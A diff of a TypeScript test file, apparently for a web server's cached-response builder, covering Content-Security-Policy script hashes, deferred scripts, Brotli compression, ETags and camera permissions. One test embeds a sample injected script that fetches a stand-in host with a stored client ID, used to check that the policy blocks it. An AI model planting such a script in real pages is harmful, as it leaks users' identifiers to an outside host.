@@ -27,9 +27,9 @@ const document = {
   scripts: [hash(scripts.context), hash(scripts.main)],
 };
 
-const bodyOf = (answer: CachedResponse) => answer.br.ready?.body ?? Buffer.alloc(0);
+const getBrotliBody = (response: CachedResponse) => response.br.ready?.body ?? Buffer.alloc(0);
 
-it('allows exactly the inline scripts that the page was rendered with', () => {
+it('allows exactly the inline scripts of the rendering', () => {
   const policy = buildCachedResponse(document, { path: '/', secured: true }).headers[
     'content-security-policy'
   ];
@@ -39,19 +39,19 @@ it('allows exactly the inline scripts that the page was rendered with', () => {
   expect(policy).not.toContain("script-src 'self' 'unsafe-inline'");
 });
 
-it('allows no script that came into the page in another way', () => {
-  const evil = 'fetch("https://evil.example/" + localStorage.iss_clientId)';
-  const injected = `<p>Hello</p><script>${evil}</script><script type="module" async="">${evil}</script></body>`;
+it('does not allow injected scripts', () => {
+  const injectedCode = 'fetch("https://evil.example/" + localStorage.iss_clientId)';
+  const injected = `<p>Hello</p><script>${injectedCode}</script><script type="module" async="">${injectedCode}</script></body>`;
   const body = Buffer.from(document.body.toString().replace('</body>', injected));
   const policy = buildCachedResponse({ ...document, body }, { path: '/', shape: late, secured: true })
     .headers['content-security-policy'];
   expect(policy).toContain(hash(scripts.context));
-  expect(policy).not.toContain(hash(evil));
+  expect(policy).not.toContain(hash(injectedCode));
 });
 
 const late = (html: string) => deferScripts(html, false);
 
-it('puts the scripts of a late page off, asks for nothing early and still allows what it starts later', () => {
+it('defers the scripts of a page, preloads none of them and still allows them later', () => {
   const { plain, headers } = buildCachedResponse(document, { path: '/', shape: late, secured: true });
   const html = plain.body.toString();
   expect(html).not.toContain('modulepreload"');
@@ -61,7 +61,7 @@ it('puts the scripts of a late page off, asks for nothing early and still allows
   expect(headers['content-security-policy']).toContain(hash(scripts.main));
 });
 
-it('marks a page whose scripts are to start as soon as it is shown', () => {
+it('marks a page whose scripts start as soon as it is shown', () => {
   const { plain } = buildCachedResponse(document, {
     path: '/',
     shape: (html) => deferScripts(html, true),
@@ -70,46 +70,51 @@ it('marks a page whose scripts are to start as soon as it is shown', () => {
   expect(plain.body.toString()).toContain('data-files="/assets/a.js" data-now="">');
 });
 
-it('refuses to put off what it does not find, so that no page is left without its scripts', () => {
+it('throws when the scripts or the manifest to defer are missing', () => {
   const other = { ...document, body: Buffer.from('<html><script type="module">1</script></html>') };
   expect(() => buildCachedResponse(other, { path: '/', shape: late, secured: true })).toThrow(
     'no script to put off',
   );
-  const bare = { ...document, body: Buffer.from(document.body.toString().replace('"manifest"', '"other"')) };
-  expect(() => buildCachedResponse(bare, { path: '/', shape: late, secured: true })).toThrow(
+  const withoutManifest = {
+    ...document,
+    body: Buffer.from(document.body.toString().replace('"manifest"', '"other"')),
+  };
+  expect(() => buildCachedResponse(withoutManifest, { path: '/', shape: late, secured: true })).toThrow(
     'no manifest to put off',
   );
 });
 
-it('compresses once and tells the same content by the same tag', async () => {
-  const answer = buildCachedResponse(document, { path: '/', secured: true });
-  expect(await answer.br.make()).toBe(await answer.br.make());
-  expect(brotliDecompressSync((await answer.br.make()).body).toString()).toContain('Daylight');
-  expect(buildCachedResponse(document, { path: '/', secured: true }).headers.etag).toBe(answer.headers.etag);
+it('compresses once and returns the same ETag for the same content', async () => {
+  const response = buildCachedResponse(document, { path: '/', secured: true });
+  expect(await response.br.make()).toBe(await response.br.make());
+  expect(brotliDecompressSync((await response.br.make()).body).toString()).toContain('Daylight');
+  expect(buildCachedResponse(document, { path: '/', secured: true }).headers.etag).toBe(
+    response.headers.etag,
+  );
 });
 
-it('gives the answer before again when the rendering is the same, and compresses that one better', async () => {
+it('reuses the previous response for an identical rendering, and recompresses it better', async () => {
   const before = buildCachedResponse(document, { path: '/', secured: true });
-  const quick = (await before.br.make()).body;
+  const fastBody = (await before.br.make()).body;
   expect(reuseOrBuildResponse(before, { ...document }, { path: '/', secured: true })).toBe(before);
-  await expect.poll(() => bodyOf(before).length).toBeLessThan(quick.length);
-  expect(brotliDecompressSync(bodyOf(before))).toEqual(document.body);
+  await expect.poll(() => getBrotliBody(before).length).toBeLessThan(fastBody.length);
+  expect(brotliDecompressSync(getBrotliBody(before))).toEqual(document.body);
 });
 
-it('makes a new answer of another rendering, ready in the forms in which the one before was sent', async () => {
+it('builds a new response for a changed rendering, precompressed in the encodings sent before', async () => {
   const before = buildCachedResponse(document, { path: '/', secured: true });
   await before.br.make();
   const changed = { ...document, body: Buffer.from(document.body.toString().replace('Daylight', 'Night')) };
   const after = reuseOrBuildResponse(before, changed, { path: '/', secured: true });
   await precompressResponse(after, before);
-  expect(brotliDecompressSync(bodyOf(after)).toString()).toContain('Night');
+  expect(brotliDecompressSync(getBrotliBody(after)).toString()).toContain('Night');
   expect(after.gzip.ready).toBeNull();
   expect(reuseOrBuildResponse(before, { ...document, status: 404 }, { path: '/', secured: true })).not.toBe(
     before,
   );
 });
 
-it('lets the door alone use the camera and run compiled code', () => {
+it('allows the camera and WebAssembly on the check-in page only', () => {
   const of = (path: string) => buildCachedResponse(document, { path, secured: true }).headers;
   expect(of('/scan')['permissions-policy']).toContain('camera=(self)');
   expect(of('/scan')['content-security-policy']).toContain("'wasm-unsafe-eval'");
@@ -119,9 +124,9 @@ it('lets the door alone use the camera and run compiled code', () => {
   }
 });
 
-it('allows the one origin of a script of others that counts, when there is one', () => {
-  const of = (counting: string | null) =>
-    buildCachedResponse(document, { path: '/', secured: true, counting }).headers[
+it('allows the origin of the third-party analytics script, if there is one', () => {
+  const of = (analyticsOrigin: string | null) =>
+    buildCachedResponse(document, { path: '/', secured: true, analyticsOrigin }).headers[
       'content-security-policy'
     ] ?? '';
   const allowed = of('https://counting.example')
